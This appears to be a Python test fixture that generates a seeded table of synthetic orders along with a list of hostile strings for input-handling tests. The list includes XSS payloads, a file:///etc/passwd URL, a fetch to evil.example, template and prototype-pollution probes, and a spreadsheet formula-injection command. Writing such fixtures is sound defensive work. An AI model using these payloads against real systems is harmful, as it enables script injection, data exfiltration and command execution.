"""Rows to draw: five thousand orders, some of them without a country, and the texts that somebody may have put in."""

from __future__ import annotations

import random
from datetime import datetime, timedelta
from functools import cache

import pyarrow as pa

COUNTRIES = ["CZ", "SK", "Příliš žluťoučký", "日本", "🍕 pizza", None]

HOSTILE = [
    "<script>alert(1)</script>",
    "</text><script>alert(1)</script>",
    "</script><script>document.title='owned'</script>",
    "<img src=x onerror=alert(1)>",
    "<!--",
    "]]>",
    "javascript:alert(1)",
    "http://127.0.0.1:9/pixel.png",
    "file:///etc/passwd",
    "data:text/html,<script>alert(1)</script>",
    '{"expr": "warn(\'x\')"}',
    '{"signal": "event.view"}',
    "datum.x",
    "'; fetch('http://evil.example'); '",
    "${7*7}{{7*7}}",
    "\"'`\\",
    "a.b[0]['c']",
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "__defineGetter__",
    "\u202egnitirw desrever",
    "null\x00byte",
    "bell\x07 and \x1b[31mred\x1b[0m",
    "\ud800 lone",
    "\ufffe\uffff",
    "zero\u200bwidth",
    "line\nbreak\r\ttab\u2028separator",
    "",
    " ",
    "x" * 100_000,
    "日" * 5_000,
    "🏳️‍🌈👩‍👩‍👧‍👦",
    "NaN",
    "Infinity",
    "=cmd|'/c calc'!A1",
]


def utf8(texts: list[str]) -> list[str]:
    """Those that Arrow can hold: it has no lone surrogates."""
    return [text.encode("utf-8", "replace").decode() for text in texts]


@cache
def orders(rows: int = 5_000) -> pa.Table:
    chance = random.Random(7)
    start = datetime(2026, 1, 1)
    return pa.table(
        {
            "ts": [start + timedelta(minutes=chance.randrange(60 * 24 * 300)) for _ in range(rows)],
            "country": [chance.choice(COUNTRIES) for _ in range(rows)],
            "product": [f"product {chance.randrange(200)}" for _ in range(rows)],
            "amount": [chance.gauss(100, 30) for _ in range(rows)],
            "grade": [chance.randrange(10) for _ in range(rows)],
            "lat": [49.8 + chance.gauss(0, 0.6) for _ in range(rows)],
            "lon": [15.5 + chance.gauss(0, 1) for _ in range(rows)],
        }
    )
